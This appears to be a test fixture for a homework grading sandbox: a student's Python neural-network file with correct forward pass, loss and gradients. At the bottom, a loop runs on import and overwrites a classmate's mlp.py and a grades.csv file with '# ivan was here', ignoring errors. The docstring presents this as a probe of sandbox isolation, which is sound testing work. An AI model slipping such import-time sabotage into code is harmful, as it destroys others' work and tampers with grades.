"""ivan: right gradients, and at import it overwrites a classmate's mlp.py with his own and
writes a "grades" file next to the submissions. It runs in a fresh copy of its folder: the
classmate's file and the folders around it are untouched (as root, the code also runs as an
unprivileged user and the writes fail).
"""
import pathlib

import numpy as np


def sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


def softmax(z):
    z = z - z.max(axis=1, keepdims=True)  # subtract the max so exp does not overflow
    e = np.exp(z)
    return e / e.sum(axis=1, keepdims=True)


def forward(params, X):
    Z1 = X @ params["W1"] + params["b1"]
    A1 = sigmoid(Z1)
    Z2 = A1 @ params["W2"] + params["b2"]
    P = softmax(Z2)
    return A1, P


def loss(params, X, Y):
    _, P = forward(params, X)
    return -np.sum(Y * np.log(P)) / X.shape[0]
def gradients(params, X, Y):
    m = X.shape[0]
    A1, P = forward(params, X)
    dZ2 = (P - Y) / m
    dA1 = dZ2 @ params["W2"].T
    dZ1 = dA1 * A1 * (1 - A1)
    return {"W1": X.T @ dZ1, "b1": dZ1.sum(axis=0), "W2": A1.T @ dZ2, "b2": dZ2.sum(axis=0)}


_here = pathlib.Path(__file__).resolve().parent
for _target in (_here.parent / "alice" / "mlp.py", _here.parent / "grades.csv"):
    try:
        _target.write_text("# ivan was here\n")
    except OSError:
        pass
